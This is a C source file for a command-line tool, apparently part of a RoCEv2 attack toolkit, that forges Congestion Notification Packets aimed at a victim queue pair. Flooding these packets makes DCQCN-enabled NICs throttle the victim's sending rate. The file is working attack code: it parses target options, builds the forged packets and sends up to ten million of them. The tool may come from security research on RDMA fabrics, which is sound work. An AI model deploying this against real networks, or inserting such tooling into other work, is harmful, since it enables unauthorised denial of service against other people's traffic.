/* SPDX-License-Identifier: MIT */
/*
 * cnp (NeVerMore 4.2 / 5.2.4): forged RoCEv2 Congestion Notification Packets
 * (BTH opcode 0x81, BECN set, 16 reserved bytes) aimed at a victim QP. A NIC
 * running DCQCN lowers that QP's sending rate on each one; nothing in a CNP is
 * secret but the QPN. rxe implements no congestion control: it drops them
 * (see docs/attack.md for what the fabric showed).
 */
#include <getopt.h>
#include <string.h>

#include "common/attack.h"

enum { OPT_COUNT = OPT_FIRST_PRIVATE };

static void help(FILE *f)
{
	fprintf(f, "Usage: %s cnp --dst IP --src IP --qpn N [options]\n"
		"Send forged RoCEv2 congestion notification packets to a victim QP.\n\n"
		FORGE_HELP
		"  --count N             how many CNPs (default 1000, at most 10000000)\n"
		"  -h, --help\n\n"
		"A CNP's PSN is reserved: every packet carries --psn (default 0), and the count\n"
		"is --count's, whatever --psn-sweep says. --dst is the QP's host, --src its peer\n"
		"(a real CNP comes from the peer's NIC). Exit status: 0 sent, 1 failed, 2 bad usage.\n", PROG);
}

static const struct option cnp_long_opts[] = {
	FORGE_LONG_OPTIONS,
	{ "count", required_argument, NULL, OPT_COUNT },
	{ "help", no_argument, NULL, 'h' },
	{ 0 },
};

/* --count into *ctx; false if it was bad. */
static bool parse_opt(int opt, const char *arg, void *ctx)
{
	uint32_t *count = ctx;

	if (opt != OPT_COUNT || !parse_u32(arg, 10000000, count, "--count"))
		return false;
	if (*count == 0)
		fprintf(stderr, "%s cnp: --count must be at least 1\n", PROG);
	return *count > 0;
}

static void report(const struct forge_opts *f, uint64_t sent, double secs, int rc)
{
	char s1[16], s2[16];

	if (!f->json) {
		printf("cnp: %s %llu forged CNP(s) %s -> %s qpn 0x%06x in %.3f s\n", f->no_send ? "built" : "sent",
		       (unsigned long long)sent, ipv4_str(f->src_ip, s1), ipv4_str(f->dst_ip, s2), f->qpn, secs);
		return;
	}
	struct json j;
	json_begin(&j, "cnp");
	json_str(&j, "dst", ipv4_str(f->dst_ip, s1));
	json_str(&j, "src", ipv4_str(f->src_ip, s2));
	json_hex(&j, "qpn", f->qpn);
	json_u64(&j, "count", f->count);
	json_u64(&j, "sent", sent);
	json_num(&j, "seconds", secs);
	json_boolean(&j, "ok", rc == 0);
	json_end(&j);
}

int cnp_main(int argc, char *argv[])
{
	static const uint8_t reserved[ROCE_CNP_RESERVED_LEN];
	struct forge_opts o = { .count = 1 };
	uint32_t count = 1000;
	struct roce_pkt p = { .opcode = ROCE_CNP, .bth_resv8a = ROCE_BTH_BECN, .payload = reserved,
			      .payload_len = sizeof(reserved) };
	uint64_t sent = 0;
	bool bad = false;
	double t0;
	int rc;

	rc = forge_getopt(argc, argv, cnp_long_opts, "cnp", &o, parse_opt, &count, help, &bad);
	if (rc >= 0)
		return rc;
	o.have_psn = true; /* reserved in a CNP: --psn's or 0 */
	o.psn_fixed = true;
	o.count = count;
	if (bad || !forge_check(&o, "cnp"))
		return 2;
	t0 = now_s();
	rc = forge_run(&o, &p, &sent);
	report(&o, sent, now_s() - t0, rc);
	return rc == 0 ? 0 : 1;
}
